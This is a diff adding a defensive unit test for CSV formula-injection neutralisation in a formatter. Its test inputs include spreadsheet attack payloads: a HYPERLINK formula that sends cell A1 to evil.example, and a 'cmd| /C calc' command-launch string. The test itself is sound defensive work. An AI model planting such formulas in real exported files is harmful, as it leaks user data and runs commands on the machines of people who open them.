@@ -69,6 +69,21 @@ describe('parseCsv', () => {
 });
 
 describe('formatCsv', () => {
+  // Issue T3 1/7 item 16: a value a spreadsheet would evaluate is written as text.
+  it('neutralises text that a spreadsheet would run as a formula', () => {
+    expect(formatCsvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    expect(formatCsvField('+1 312 555 0100')).toBe(`"'+1 312 555 0100"`);
+    expect(formatCsvField('-2+3+cmd|\' /C calc\'!A0')).toBe(`"'-2+3+cmd|' /C calc'!A0"`);
+    expect(formatCsvField('@SUM(1+1)')).toBe(`"'@SUM(1+1)"`);
+    expect(formatCsvField('\t=1+1')).toBe(`"'\t=1+1"`);
+    expect(formatCsvField('\r=1+1')).toBe(`"'\r=1+1"`);
+    // Numbers are numbers; a sign inside text is harmless.
+    expect(formatCsvField(-5)).toBe('-5');
+    expect(formatCsvField('a=b')).toBe('a=b');
+    const text = formatCsv([['name'], ['=cmd()'], ['@evil']]);
+    expect(fieldsOf(text)).toEqual([['name'], ["'=cmd()"], ["'@evil"]]);
+  });
+
   it('quotes only what needs quoting and round-trips through the parser', () => {
     expect(formatCsvField('plain')).toBe('plain');
     expect(formatCsvField('a,b')).toBe('"a,b"');
